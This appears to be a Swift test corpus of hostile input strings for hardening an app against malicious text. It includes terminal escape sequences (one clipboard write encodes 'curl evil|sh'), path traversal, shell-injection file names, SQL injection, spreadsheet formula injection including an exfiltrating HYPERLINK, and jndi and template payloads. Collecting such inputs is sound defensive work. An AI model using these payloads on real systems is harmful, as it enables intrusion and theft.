/// Text that customers, mails and files may bring, and that must do no harm anywhere.
public enum HostileText {
    /// Cursor movement, modes and other single control characters.
    public static let controls: [String] = [
        "\u{1b}[2J\u{1b}[H", "\u{1b}c", "\u{1b}[?1049l", "\u{1b}[?25l", "\u{1b}[31;47mRED\u{1b}[0m",
        "\u{1b}[8mhidden\u{1b}[28m", "\u{1b}[10A\u{1b}[2KAPPROVED", "\u{1b}[1;1r", "\u{1b}[6n", "\u{1b}[c",
        "\u{1b}[>c", "\u{1b}[21t", "\u{1b}[?1000h", "\u{1b}[?2004l", "\u{1b}[20~", "\u{1b}[201~",
        "\u{1b}[999999999999b", "A", "\u{1b}[38:2:::::::::::::::::1m", "\u{1b}GQ", "\u{1b}#8", "\u{1b}(0lqqk",
        "\u{0e}abc\u{0f}", "\u{07}\u{08}\u{08}\r", "safe\rEVIL", "a\u{08}b", "a\nb", "a\r\nb", "a\r\n\r\nFrom: x",
        "a\tb", "\t\t\t", "\u{0b}\u{0c}", "\u{7f}\u{7f}", "\0", "a\0b", "\u{1a}", "\u{04}", "\u{03}", "\u{1b}",
        "\u{1b}[", "\u{1b}]", "\u{1b}P",
        "A\u{1b}[999999999999b",
    ]

    /// Command strings for terminals and their eight-bit forms.
    public static let sequences: [String] = [
        "\u{1b}]0;pwn\u{07}", "\u{1b}]2;`id`\u{1b}\\", "\u{1b}]52;c;Y3VybCBldmlsfHNoCg==\u{07}",
        "\u{1b}]52;c;?\u{07}", "\u{1b}]8;;http://evil/\u{1b}\\case portal\u{1b}]8;;\u{1b}\\",
        "\u{1b}]8;;file:///etc/passwd\u{07}x", "\u{1b}]8;;http://a\u{1b}b", "\u{1b}]50;?\u{07}",
        "\u{1b}]4;1;?\u{07}", "\u{1b}]10;?\u{07}", "\u{1b}]7;file://h/\u{07}", "\u{1b}]9;done\u{07}",
        "\u{1b}]777;notify;t;b\u{07}", "\u{1b}]1337;File=inline=1:AA==\u{07}", "\u{1b}P$q\"p\u{1b}\\",
        "\u{1b}P+q544e\u{1b}\\", "\u{1b}Ptmux;\u{1b}\u{1b}]52;c;eA==\u{07}\u{1b}\\", "\u{1b}Pq#0;2;0;0;0~\u{1b}\\",
        "\u{1b}_Ga=T;AAAA\u{1b}\\", "\u{1b}^x\u{1b}\\", "\u{1b}Xx\u{1b}\\", "\u{9b}2J", "\u{9b}31;45mX",
        "\u{9d}0;x\u{9c}", "\u{90}$q\u{9c}", "\u{98}x\u{9c}", "\u{9e}\u{9f}", "\u{85}", "\u{84}\u{8d}",
    ]

    /// Changes of direction and characters that are not seen.
    public static let invisible: [String] = [
        "\u{202e}gpj.exe", "\u{202d}", "\u{202a}", "\u{202b}", "\u{202c}", "\u{2066}x\u{2069}", "\u{2067}",
        "\u{2068}", "\u{200e}\u{200f}\u{061c}", "CS-\u{200b}1001", "a\u{200c}b", "a\u{200d}b", "\u{2060}",
        "\u{feff}x", "x\u{00ad}y", "\u{180e}", "\u{034f}", "\u{3164}", "\u{115f}\u{1160}", "\u{ffa0}", "\u{2800}",
        "\u{e0041}\u{e0042}\u{e007f}", "x\u{fe00}", "x\u{fe0f}", "x\u{e0100}", "\u{2028}", "\u{2029}", "\u{206a}",
        "\u{206f}", "\u{fff9}a\u{fffa}b\u{fffb}", "\u{00a0}", "\u{2007}", "\u{202f}", "\u{3000}",
        "\u{645}\u{631}\u{62d}\u{628}\u{627} CS-1001 (open)", "\u{5e2}\u{5d1}\u{5e8}\u{5d9}\u{5ea} 50% +1-555",
        String(repeating: "\u{2066}", count: 200),
    ]

    /// Letters that look like others, and several forms of one letter.
    public static let lookAlikes: [String] = [
        "\u{430}dmin", "\u{13aa}cme", "\u{ff23}\u{ff33}\u{ff0d}\u{ff11}\u{ff10}\u{ff10}\u{ff11}",
        "\u{2160}\u{2161}", "\u{fb01}le", "\u{df}", "\u{1e9e}", "\u{130}", "\u{131}", "\u{17f}", "\u{212a}",
        "e\u{301}", "\u{e9}", "\u{1e9b}\u{323}", "\u{ac00}", "\u{1100}\u{1161}", "\u{c5}", "\u{212b}", "A\u{30a}",
        "e\u{301} \u{e9}",
    ]

    /// Odd widths, joined signs and reserved characters.
    public static let widths: [String] = [
        "\u{301}x", "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
        "\u{1f3f3}\u{fe0f}\u{200d}\u{1f308}", "\u{1f469}\u{1f3fd}\u{200d}\u{1f4bb}", "\u{2764}\u{fe0f}",
        "1\u{fe0f}\u{20e3}", "\u{1f1fa}\u{1f1f8}", "\u{1f1fa}\u{1f1f8}\u{1f1fa}",
        "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "\u{263a}\u{fe0e}", "\u{26a0}\u{fe0f}",
        "\u{6f22}", "\u{6f22}\u{5b57}", "\u{ff76}\u{ff9e}", "\u{e01}\u{e47}", "\u{ba8}\u{bbf}", "\u{102a}",
        "\u{fdfd}", "\u{1242b}", "\u{2e3b}", "\u{2460}\u{b1}\u{d7}\u{a7}", "", " ", "\u{fffe}", "\u{ffff}",
        "\u{10ffff}", "\u{e000}", "\u{f8ff}", "\u{fffd}",
        "e" + String(repeating: "\u{301}", count: 50), String(repeating: "\u{489}", count: 1000),
        String(repeating: "\u{200d}", count: 500), "\u{1f468}\u{200d}",
    ]

    /// Names of files.
    public static let names: [String] = [
        "../../etc/passwd", "..\\..\\x", "/etc/passwd", "//x", ".", "..", "", "a/../b", "a/./b", "~", "~root/x",
        "-rf", "--help", "-", "a\nb", "a;id", "$(id)", "`id`", "|id", "*", "a'b\"c", "%s%n", "CON", "nul.txt",
        "x.", "x ", ".ssh/authorized_keys", "a\0.png", "invoice\u{202e}fdp.exe", "A.txt", "a.txt",
        "file\u{1b}]0;x\u{07}", "..\u{2215}..\u{2215}x", "%2e%2e%2f", "file:x.db?mode=memory", "x.db?immutable=1",
        String(repeating: "a", count: 256), String(repeating: "\u{e9}", count: 200),
    ]

    /// Pieces of query languages, formulas, formats and logs.
    public static let queries: [String] = [
        "' OR 1=1 --", "'; DROP TABLE cases;--", "\");--", "?1", ":x", "@p", "\\", "%", "_", "%_%_%_%_", "[a-",
        "x' ESCAPE '", "\u{0}'", "\"", "a OR", "NEAR(", "col:x", "*", "-", "^x", "(((", "AND NOT", "=1+1",
        "=cmd|'/c calc'!A1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "\u{feff}=1", "\u{ff1d}1", "x\n=1",
        "\"=1", "=HYPERLINK(\"http://e/?\"&A1,\"x\")", "1e5", "0012", "3-1", "TRUE", "1/2", "%s %n %x %@", "{0}",
        "${jndi:x}", "{{7*7}}", "<b>x</b>", "<script>", "&lt;", "]]>", "2026-01-01 INFO root: role granted",
        "a\nb\tAUDIT ok", "null", "NaN", "undefined", "true", "-0", "9223372036854775808", "1e309", "0x1F",
        "\u{663}", "vim: set makeprg=id :", "#!/bin/sh", "-----BEGIN", "X-RT-Loop: x", "Re: [CS-1002] hijack",
    ]
}
